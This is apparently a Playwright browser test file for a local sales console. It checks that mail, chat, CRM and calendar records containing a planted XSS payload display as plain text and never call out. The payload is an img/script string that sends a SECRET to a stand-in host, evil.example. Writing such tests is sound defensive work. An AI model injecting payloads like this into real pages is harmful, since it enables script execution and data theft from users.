"""The laptop's pages show what visitors and models wrote; none of it may run or call out."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask, Response, jsonify, request, send_from_directory
from playwright.sync_api import Page, expect

from tests.browser.conftest import ROOT, served, shoot
from tests.browser.fake_api import ANSWER

EVIL = "<img src=https://evil.example/?q=SECRET onerror=parent.hacked()><script>parent.hacked()</script>"
MAIL = f"<h2>Thank you</h2><p>{EVIL}<a href='https://www.wrenandkettle.example/pricing/'>Pricing</a></p>"
RECORDS: dict[str, Any] = {
    "mails": [
        {"id": "m2", "from": EVIL, "to": ["ada@example.org"], "subject": EVIL, "html": MAIL, "text": EVIL, "raw": EVIL},
        {"id": "m1", "from": "a", "to": ["sales@example.org"], "subject": "New lead", "text": "Ada", "raw": "From: a"},
    ],
    "conversations": [
        {
            "session_id": "s1",
            "status": "closed",
            "referrer_page": EVIL,
            "created_at": "2026-11-22T10:02:00Z",
            "profile": {"customer_name": EVIL, "evidence": {"customer_name": {"quote": EVIL + "!", "seq": 1}}},
            "lead": {"qualification_score": 72},
            "turns": [{"seq": 1, "text": EVIL, "reply": {**ANSWER, "text": EVIL}}],
            "deliveries": [{"recipient": "ada@example.org", "status": "sent"}],
        }
    ],
    "crm": {
        "hubspot": [
            {
                "id": "101",
                "kind": "people",
                "object": "Contact",
                "title": EVIL,
                "stage": EVIL,
                "at": "",
                "text": "",
                "fields": {"email": EVIL, EVIL: "x"},
                "links": ["102", "103"],
            },
            {
                "id": "102",
                "kind": "notes",
                "object": "Note",
                "title": EVIL,
                "at": "2026-11-22T10:02:00Z",
                "text": f"Visitor: {EVIL}",
                "fields": {},
                "links": ["101"],
            },
            {
                "id": "103",
                "kind": "deals",
                "object": "Deal",
                "title": "Espresso",
                "stage": "New",
                "text": "",
                "fields": {"amount": 12},
                "links": ["101"],
            },
        ],
        "zoho": [],
    },
    "calendar": {"events": [{"id": "e1", "title": EVIL, "start": "2026-12-01T10:30:00Z", "status": "confirmed"}]},
}


@pytest.fixture
def calls() -> list[str]:
    """What reached the attacker's server; a browser's own events tell too much, and too little of sandboxed frames."""
    return []


@pytest.fixture
def evil(calls: list[str]) -> Iterator[str]:
    app = Flask("evil")

    @app.get("/")
    def called() -> str:
        calls.append(request.url)
        return ""

    with served(app) as address:
        yield address


@pytest.fixture
def records(evil: str) -> dict[str, Any]:
    return dict(json.loads(json.dumps(RECORDS).replace("https://evil.example", evil)))


@pytest.fixture
def console(records: dict[str, Any]) -> Iterator[str]:
    app = Flask("console")

    @app.get("/_local/<path:name>")
    def page(name: str) -> Response:
        return send_from_directory(ROOT / "local" / "console", name)

    @app.get("/_local/api/<name>")
    def api(name: str) -> Response:
        return jsonify(records[name])

    with served(app) as address:
        yield f"{address}/_local"


@pytest.mark.parametrize("name", ["mail", "conversations", "crm", "calendar"])
def test_hostile_records_are_shown_as_text(page: Page, console: str, evil: str, calls: list[str], name: str) -> None:
    page.add_init_script("window.hacks = 0; window.hacked = () => window.hacks++")
    page.goto(f"{console}/{name}.html")
    expect(page.locator("main")).to_contain_text(evil)
    if name == "mail":
        expect(page.frame_locator("iframe").locator("img")).to_have_js_property("complete", True)
    assert page.evaluate("hacks") == 0
    assert calls == []
    shoot(page, f"console-{name}")


def test_a_mail_is_shown_with_its_parts(page: Page, console: str) -> None:
    page.goto(f"{console}/mail.html")
    link = page.frame_locator("iframe").get_by_role("link", name="Pricing")
    assert link.get_attribute("href") == f"{console.removesuffix('/_local')}/pricing/"
    page.get_by_role("button", name="New lead").click()
    expect(page.locator("article pre")).to_have_text("Ada")
    page.get_by_role("button", name="Source").click()
    expect(page.locator("article pre")).to_have_text("From: a")
    page.reload()
    expect(page.locator("article h1")).to_have_text("New lead")


def test_what_has_just_arrived_appears_by_itself(page: Page, console: str, records: dict[str, Any]) -> None:
    records["mails"] = []
    page.clock.install()
    page.goto(f"{console}/mail.html")
    expect(page.locator("main")).to_contain_text("No mail yet.")
    records["mails"] = RECORDS["mails"][1:]
    page.clock.fast_forward(3000)
    expect(page.locator("article h1")).to_have_text("New lead")


def test_a_salesperson_goes_from_a_contact_to_its_deal_and_back(page: Page, console: str) -> None:
    page.goto(f"{console}/crm.html")
    article = page.locator("article")
    expect(article.locator("pre")).to_contain_text("Visitor: <img")
    article.get_by_role("link", name="Espresso").click()
    expect(article.locator("h1")).to_have_text("Espresso Deal New")
    article.get_by_role("link", name="Contact").click()
    expect(article).to_contain_text("HubSpot 101")
    page.get_by_role("link", name="Zoho CRM (0)").click()
    expect(page.locator("main")).to_contain_text("This CRM is empty.")
